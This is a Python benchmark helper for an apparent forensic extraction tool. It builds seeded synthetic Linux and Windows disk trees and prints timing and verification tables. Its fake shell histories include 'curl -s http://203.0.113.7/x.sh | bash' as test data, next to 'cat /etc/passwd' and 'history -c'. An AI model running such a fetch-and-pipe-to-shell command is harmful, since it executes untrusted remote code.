#!/usr/bin/env python3
"""Helper of benches/matrix.sh: builds the seeded trees and prints the tables.

  matrix.py linux STAGE SCALE            Linux tree into STAGE (mke2fs -d / cp -a source)
  matrix.py windows MOUNT SCALE          Windows tree onto a mounted NTFS volume
  matrix.py icat-list MANIFEST           inode<TAB>n of every file snapsift extracted
  matrix.py verify MANIFEST DIR           how many of DIR/<n> match snapsift's SHA-256
  matrix.py report RESULTS.tsv [--md]    per-image tables, ratios and goal verdicts

SCALE 1 is the full variant (~250,000 noise files and ~1.5 GiB of logs on
Linux; ~150,000 files and ~1 GiB of .evtx on Windows); 0.1 is SMALL=1.
Content is drawn from random.Random(seed): the same SCALE gives the same files.
"""
import csv
import gzip
import os
import random
import sys

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "images"))
MiB = 1 << 20
T0 = 1709251200  # 2024-03-01T00:00:00Z: file times are T0 + a seeded offset

WORDS = ("sshd pam_unix session opened closed for user root ubuntu from 203.0.113.7 198.51.100.23 port ssh2 "
         "Accepted publickey Failed password invalid kernel: audit type=SYSCALL uid=0 gid=0 systemd Started "
         "Stopped nginx GET POST /index.html /api/v1/login HTTP/1.1 200 404 500 cron CMD (run-parts) docker "
         "containerd level=info msg=\"pulling image\" dhclient DHCPACK eth0 apt upgrade warning error").split()


def pool(rnd, n):
    """n distinct log-like lines: compressible about 4:1 with deflate, like real logs."""
    out = []
    for i in range(n):
        ts = "2024-%02d-%02dT%02d:%02d:%02d.%06dZ" % (rnd.randrange(3, 6), rnd.randrange(1, 29), rnd.randrange(24),
                                                    rnd.randrange(60), rnd.randrange(60), rnd.randrange(10**6))
        out.append(("%s bench %s[%d]: %s\n" % (ts, rnd.choice(WORDS), rnd.randrange(1, 65535),
                                               " ".join(rnd.choices(WORDS, k=rnd.randrange(6, 18))))).encode())
    return out


class Writer:
    def __init__(self, root, seed):
        self.root = root
        self.rnd = random.Random(seed)
        self.dirs = set()
        self.files = 0
        self.bytes = 0

    def write(self, rel, data):
        full = os.path.join(self.root, rel)
        d = os.path.dirname(full)
        if d not in self.dirs:
            os.makedirs(d, exist_ok=True)
            self.dirs.add(d)
        with open(full, "wb") as f:
            f.write(data)
        t = T0 + self.rnd.randrange(90 * 86400)
        os.utime(full, (t, t))
        self.files += 1
        self.bytes += len(data)

    def finish(self):
        # Directory times too, so mke2fs -d and cp -a copy seeded times.
        for d in sorted(self.dirs, key=len, reverse=True):
            while d != self.root and len(d) > len(self.root):
                os.utime(d, (T0, T0))
                d = os.path.dirname(d)


def noise(w, n, trees, text):
    """n small files (100 B–3 KiB, slices of `text`) spread over `trees`
    (format strings taking a directory number), ~50 files a directory."""
    rnd = w.rnd
    ndirs = max(1, n // 50)
    for i in range(n):
        size = rnd.randrange(100, 3000)
        off = rnd.randrange(len(text) - size)
        d = rnd.choice(trees) % (i % ndirs)
        w.write("%s/f%06d.%s" % (d, i, rnd.choice(("py", "js", "json", "so", "txt", "h"))),
                b"#%d\n" % i + text[off:off + size])


def log_body(rnd, lines, size):
    out = b"".join(rnd.choices(lines, k=size // 96 + 1))
    return out[:size]


def linux(stage, scale):
    w = Writer(stage, 8)
    rnd = w.rnd
    lines = pool(rnd, 20000)
    text = b"".join(lines[:40000])
    users = ["ubuntu", "alice", "bob", "carol", "deploy", "postgres"]
    w.write("etc/hostname", b"bench-linux\n")
    w.write("etc/os-release", b'NAME="Ubuntu"\nPRETTY_NAME="Ubuntu 22.04.4 LTS"\nID=ubuntu\n')
    w.write("etc/fstab", b"LABEL=root / auto defaults 0 1\n")
    w.write("etc/passwd", b"root:x:0:0:root:/root:/bin/bash\n" + b"".join(
        b"%s:x:%d:%d::%s:/bin/bash\n" % (u.encode(), 1000 + i, 1000 + i,
                                         b"/var/lib/postgresql" if u == "postgres" else b"/home/" + u.encode())
        for i, u in enumerate(users)))
    trees = ["usr/lib/python3/dist-packages/pkg%d", "usr/share/doc/pkg%d", "usr/lib/x86_64-linux-gnu/lib%d",
             "opt/app%d/node_modules/lodash/lib", "opt/web/node_modules/@scope/m%d/dist", "var/lib/dpkg/info%d",
             "var/lib/apt/lists/part%d", "usr/include/h%d"]
    noise(w, int(250000 * scale), trees, text)
    # ~1.5 GiB of logs in ~500 files: services, rotations (.1, .N.gz), a journal.
    budget = int(1536 * MiB * scale)
    names = []
    for base in ["syslog", "auth.log", "kern.log", "messages", "dpkg.log", "cloud-init.log", "nginx/access.log",
                 "nginx/error.log", "apache2/access.log", "mysql/error.log"]:
        names += ["var/log/" + base] + ["var/log/%s.%d" % (base, k) for k in (1,)] + \
                 ["var/log/%s.%d.gz" % (base, k) for k in range(2, 8)]
    n_svc = 500 - len(names) - 4
    names += ["var/log/app/svc%02d/app.log%s" % (i % 60, "" if i < 60 else ".%d" % (i // 60)) for i in range(n_svc)]
    if scale < 1:
        names = sorted(rnd.sample(names, max(20, int(len(names) * scale))))
    weights = [rnd.lognormvariate(0, 1) for _ in names]
    journal = budget // 12
    scale_b = (budget - journal) / sum(weights)
    for name, wt in zip(names, weights):
        size = max(4096, int(wt * scale_b))
        body = log_body(rnd, lines, size)
        w.write(name, gzip.compress(body, 6, mtime=0) if name.endswith(".gz") else body)
    # journald-like binary files: a header, then half random, half text.
    mid = "ec2b7d3c6f8e4a1b9c0d2e3f4a5b6c7d"
    for k, frac in enumerate((0.5, 0.3, 0.2)):
        size = int(journal * frac)
        body = b"LPKSHHRH" + bytes(248)
        while len(body) < size:
            body += rnd.randbytes(32768) + log_body(rnd, lines, 32768)
        name = "system.journal" if k == 0 else "system@%032x-%016x.journal" % (rnd.getrandbits(128), k)
        w.write("var/log/journal/%s/%s" % (mid, name), body[:size])
    w.write("var/log/wtmp", rnd.randbytes(384 * 200))
    # Shell histories for several users.
    cmds = [b"sudo su -", b"ls -la", b"cat /etc/passwd", b"curl -s http://203.0.113.7/x.sh | bash", b"vim app.conf",
            b"systemctl restart nginx", b"docker ps", b"git pull", b"history -c", b"psql -U app"]
    w.write("root/.bash_history", b"\n".join(rnd.choices(cmds, k=3000)) + b"\n")
    for u in users:
        home = "var/lib/postgresql" if u == "postgres" else "home/" + u
        w.write(home + "/.bash_history", b"\n".join(rnd.choices(cmds, k=rnd.randrange(50, 2000))) + b"\n")
        if u in ("alice", "deploy"):
            w.write(home + "/.zsh_history", b"".join(b": %d:0;%s\n" % (T0 + i, c)
                                                     for i, c in enumerate(rnd.choices(cmds, k=500))))
        w.write(home + "/.bashrc", b"alias ll='ls -l'\n")
    w.finish()
    print("linux tree: %d files, %.0f MiB" % (w.files, w.bytes / MiB))


SAMPLES = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "shared", "samples", "evtx")


def evtx_chunks():
    """(header, chunks) of the clean real logs among the samples (not in the
    repository: third-party data, for tests and benchmarks only), or []."""
    out = []
    for name in ("security.evtx", "system.evtx", "issue_43.evtx"):
        try:
            with open(os.path.join(SAMPLES, name), "rb") as f:
                data = f.read()
        except OSError:
            continue
        n = (len(data) - 4096) // 65536
        out.append((data[:4096], [data[4096 + i * 65536:4096 + (i + 1) * 65536] for i in range(n)]))
    return out


def tiled_evtx(header, chunks, n):
    """A log of n chunks, `chunks` over and over (each chunk stands alone), its
    header's chunk count, last chunk and CRC-32 set to match (as
    benches/evtx_json.rs tiles one)."""
    import struct
    import zlib
    n = max(1, min(n, 0xffff))
    h = bytearray(header)
    h[16:24] = struct.pack("<Q", n - 1)
    h[42:44] = struct.pack("<H", n)
    h[124:128] = struct.pack("<I", zlib.crc32(bytes(h[:120])))
    return bytes(h) + b"".join(chunks[i % len(chunks)] for i in range(n))



def windows(mnt, scale):
    from build_ntfs import software_hive, system_hive
    w = Writer(mnt, 9)
    rnd = w.rnd
    text = b"".join(pool(rnd, 20000))
    w.write("Windows/System32/config/SYSTEM", system_hive("BENCH-WIN"))
    w.write("Windows/System32/config/SOFTWARE", software_hive("Windows Server 2022 Datacenter", "21H2", "20348"))
    trees = ["Windows/WinSxS/amd64_microsoft-windows-c%d_31bf3856ad364e35", "Windows/System32/DriverStore/FileRepository/d%d.inf",
             "Program Files/Vendor/App%d/lib", "ProgramData/Package Cache/{%d}", "Users/alice/AppData/Local/Packages/p%d/LocalState",
             "Windows/assembly/NativeImages_v4/m%d"]
    noise(w, int(150000 * scale), trees, text)
    # ~150 event logs, ~1 GiB: real EVTX chunks when the third-party samples
    # are beside the checkout (evtx_chunks), each log its sample's chunks
    # over and over; else not valid EVTX (a header, then chunks of UTF-16
    # text and random bytes), and matrix.sh times no conversion.
    names = ["Application", "Security", "System", "Setup", "Windows PowerShell", "HardwareEvents"]
    names += ["Microsoft-Windows-%s%%4Operational" % c for c in (
        "PowerShell", "Sysmon", "TaskScheduler", "TerminalServices-LocalSessionManager", "WMI-Activity", "Bits-Client",
        "Windows Defender", "SMBServer", "NTLM", "GroupPolicy")]
    names += ["Microsoft-Windows-Component%03d%%4Admin" % i for i in range(150 - len(names))]
    weights = [8, 20, 8] + [rnd.lognormvariate(0, 1) for _ in names[3:]]
    n_logs = max(15, int(150 * scale))
    names, weights = names[:n_logs], weights[:n_logs]
    budget = int(1024 * MiB * scale)
    utf16 = text[:1 << 20].decode().encode("utf-16-le")
    real = evtx_chunks()
    for i, (name, wt) in enumerate(zip(names, weights)):
        size = max(69632, int(budget * wt / sum(weights)) & ~4095)
        if real:
            header, chunks = real[i % len(real)]
            w.write("Windows/System32/winevt/Logs/%s.evtx" % name, tiled_evtx(header, chunks, (size - 4096) // 65536))
            continue
        body = bytearray(b"ElfFile\0" + bytes(4088))
        while len(body) < size:
            off = rnd.randrange(len(utf16) - 49152)
            body += b"ElfChnk\0" + rnd.randbytes(16376) + utf16[off:off + 49152]
        w.write("Windows/System32/winevt/Logs/%s.evtx" % name, bytes(body[:size]))
    print("windows event logs: %s" % ("real EVTX chunks (../shared/samples/evtx)" if real else "not valid EVTX"))
    if real:  # tells matrix.sh to time the conversion too
        open(os.path.join(mnt, "..", "windows-evtx-real"), "w").close()
    psr = "AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    for u in ("Administrator", "alice", "svc_backup"):
        w.write("Users/%s/%s" % (u, psr), b"".join(b"Get-Process -Id %d\r\n" % rnd.randrange(9999) for _ in range(300)))
    w.finish()
    print("windows tree: %d files, %.0f MiB" % (w.files, w.bytes / MiB))


def icat_list(manifest):
    """The files snapsift extracted (status ok, type file): what icat copies."""
    with open(manifest, newline="") as f:
        for i, row in enumerate(csv.DictReader(f)):
            if row["status"] == "ok" and row["type"] == "file" and row["inode"]:
                print("%s\t%d" % (row["inode"], i))


def verify(manifest, outdir):
    """How many of icat's outputs have the SHA-256 snapsift recorded."""
    import hashlib
    good = bad = 0
    with open(manifest, newline="") as f:
        for i, row in enumerate(csv.DictReader(f)):
            p = os.path.join(outdir, str(i))
            if os.path.exists(p):
                h = hashlib.sha256()
                with open(p, "rb") as g:
                    while b := g.read(MiB):
                        h.update(b)
                good, bad = (good + 1, bad) if h.hexdigest() == row["sha256"] else (good, bad + 1)
    print("%d %d" % (good, bad))


# ---------------------------------------------------------------- report
def table(title, head, rows, md):
    print()
    if md:
        print("**%s**\n" % title)
        print("| " + " | ".join(head) + " |")
        print("|" + "---|" * len(head))
        for r in rows:
            print("| " + " | ".join(r) + " |")
    else:
        print(title)
        widths = [max(len(h), *(len(r[i]) for r in rows)) for i, h in enumerate(head)]
        for r in [head] + rows:
            print("  ".join(c.rjust(wd) if i else c.ljust(wd) for i, (c, wd) in enumerate(zip(r, widths))))


def report(path, md):
    runs = {}  # (image, format) -> tool -> [(wall, cpu, rss_kib, rc)]
    order = []
    notes = {}
    wrote = {}  # (image, format, tool) -> MiB written
    with open(path) as f:
        for line in f:
            p = line.rstrip("\n").split("\t")
            if p[0] == "note":
                notes.setdefault(p[1], []).append(p[2])
                continue
            if p[0] == "wrote":
                wrote[(p[1], p[2], p[3])] = float(p[4])
                continue
            image, fmt, tool, wall, user, sys_, rss, rc = p
            if (image, fmt) not in runs:
                runs[(image, fmt)] = {}
                order.append((image, fmt))
            runs[(image, fmt)].setdefault(tool, []).append((float(wall), float(user) + float(sys_), int(rss), int(rc)))

    def best(m, tool):
        # A reference that failed (dissect on a format it cannot open) is no bound.
        r = [x for x in m.get(tool, []) if tool == "snapsift" or tool == "tsk" or x[3] == 0]
        return min(r) if r else None

    def incomplete(image, fmt):
        # Nor is one that left most of the files out (dissect finds no event
        # logs on a disk whose Windows it does not recognise): under 90 % of
        # the bytes snapsift extracted.
        theirs, ours = wrote.get((image, fmt, "dissect")), wrote.get((image, "raw", "snapsift"))
        return theirs is not None and ours and theirs < 0.9 * ours

    verdicts = []
    images = list(dict.fromkeys(i for i, _ in order))
    for image in images:
        head = ["format", "snapsift s", "CPU s", "RSS MiB", "cat s", "qemu-img s", "TSK s", "qemu-img+TSK s",
                "dissect s", "kernel cp s", "cp -a s", "SHA-256 CPU s", "÷extractor", "÷cp -a", "floor ÷cp -a", "goal"]
        rows, jrows = [], []
        raw_tsk = best(runs.get((image, "raw"), {}), "tsk")
        for (im, fmt) in order:
            if im != image:
                continue
            m = runs[(im, fmt)]
            s = best(m, "snapsift")
            rss = max(r[2] for r in m["snapsift"]) / 1024
            cat, qemu, tsk, dis, kcp, cp, sha = (best(m, t) for t in ("cat", "qemu-img", "tsk", "dissect", "kernel-cp", "cp-a", "sha256"))
            if dis and incomplete(im, fmt):
                dis = None
                notes.setdefault(image, []).append("%s: dissect acquire wrote under 90 %% of snapsift's bytes: no bound" % fmt)
            chain = qemu[0] + raw_tsk[0] if qemu and raw_tsk else None
            ext = min([x for x in (tsk and tsk[0], chain, dis and dis[0], kcp and kcp[0]) if x], default=None)
            bound = max(0.5 * ext if ext else 0, 1.25 * cp[0])
            cp_s = max(cp[0], 0.01)  # time -v counts hundredths
            # Issue #16's floor: writing what cp -a writes and hashing it,
            # both spread over every core, against cp -a on one.
            floor = (sha[1] + cp[1]) / (os.cpu_count() or 1) / cp_s if sha else None
            ok_t, ok_m = s[0] <= bound, rss <= 64
            bad_rc = sorted({r[3] for r in m["snapsift"]} - {0})
            goal = ("PASS" if ok_t and ok_m else "MISS" + ("" if ok_t else " time") + ("" if ok_m else " RSS"))
            if bad_rc:
                goal += " (exit %s)" % ",".join(map(str, bad_rc))
            verdicts.append((image, fmt, goal, s[0], bound))
            n = len(m["snapsift"])
            f = lambda x, t=None: "—" if not x else "%.2f" % x[0] + ("*" if t and len(m[t]) < n else "")
            rows.append([fmt, "%.2f" % s[0], "%.2f" % s[1], "%.0f" % rss, f(cat), f(qemu, "qemu-img"), f(tsk, "tsk"),
                         "%.2f" % chain if chain else "—", f(dis, "dissect"), f(kcp, "kernel-cp"), f(cp), "%.2f" % sha[1] if sha else "—",
                         "%.2f" % (s[0] / ext) if ext else "—", "%.2f" % (s[0] / cp_s), "%.2f" % floor if floor else "—", goal])
            j = best(m, "snapsift-jsonl")
            raw = runs.get((image, "raw"), {})
            d1, d2 = best(raw, "evtx-dump-t1"), best(raw, "evtx-dump-t2")
            if j and d1 and d2 and ext:
                # Issue #16: against extracting, then converting with evtx_dump;
                # the conversion's CPU is what the default run adds to --no-evtx-json.
                r1, r2, conv = j[0] / (ext + d1[0]), j[0] / (ext + d2[0]), (j[1] - s[1]) / d1[1]
                bad = [w for w, miss in (("÷-t 1", r1 > 0.5), ("÷-t 2", r2 > 0.6), ("CPU", conv > 1.25)) if miss]
                goal = "PASS" if not bad else "MISS " + ", ".join(bad)
                verdicts.append((image, fmt + " +jsonl", goal, j[0], min(0.5 * (ext + d1[0]), 0.6 * (ext + d2[0]))))
                jrows.append([fmt, "%.2f (%.2f)" % j[:2], "%.2f (%.2f)" % s[:2], "%.2f" % ext, "%.2f (%.2f)" % d1[:2], "%.2f (%.2f)" % d2[:2],
                              "%.2f" % r1, "%.2f" % r2, "%.2f" % (j[1] - s[1]), "%.2f" % conv, goal])
        table(image, head, rows, md)
        if jrows:
            table(image + ", default EVTX -> JSONL conversion, against extraction + evtx_dump (s (CPU s))",
                  ["format", "snapsift", "--no-evtx-json", "fastest extractor", "evtx_dump -t 1", "evtx_dump -t 2",
                   "÷(ext + -t 1)", "÷(ext + -t 2)", "conversion CPU s", "÷ -t 1 CPU", "goal"], jrows, md)
        if md and notes.get(image):
            print()
        for n in notes.get(image, []):
            print(("- " if md else "  note: ") + n)
    missed = [v for v in verdicts if not v[2].startswith("PASS")]
    print()
    print("* timed once: its first run took over SLOW x snapsift's")
    print("goal: snapsift wall <= max(0.5 x fastest reference extractor, 1.25 x cp -a floor), peak RSS <= 64 MiB")
    print("floor ÷cp -a: (SHA-256 CPU + cp -a CPU) / %d cores / cp -a wall, the least ÷cp -a of an extraction that"
          " hashes what it writes (issue #16 asks <= 1.25 on Linux)" % (os.cpu_count() or 1))
    print("goal +jsonl: snapsift wall <= 0.5 x (fastest extractor + evtx_dump -t 1) and <= 0.6 x (... + evtx_dump -t 2);"
          " its conversion's CPU <= 1.25 x evtx_dump -t 1's")
    print("verdict: %d of %d (image, format) pairs pass" % (len(verdicts) - len(missed), len(verdicts)))
    for image, fmt, goal, s, bound in missed:
        print("  %s %s: %s (%.2f s, bound %.2f s)" % (image, fmt, goal, s, bound))


if __name__ == "__main__":
    cmd = sys.argv[1]
    if cmd == "linux":
        linux(sys.argv[2], float(sys.argv[3]))
    elif cmd == "windows":
        windows(sys.argv[2], float(sys.argv[3]))
    elif cmd == "icat-list":
        icat_list(sys.argv[2])
    elif cmd == "verify":
        verify(sys.argv[2], sys.argv[3])
    elif cmd == "report":
        report(sys.argv[2], "--md" in sys.argv)
    else:
        sys.exit(__doc__)
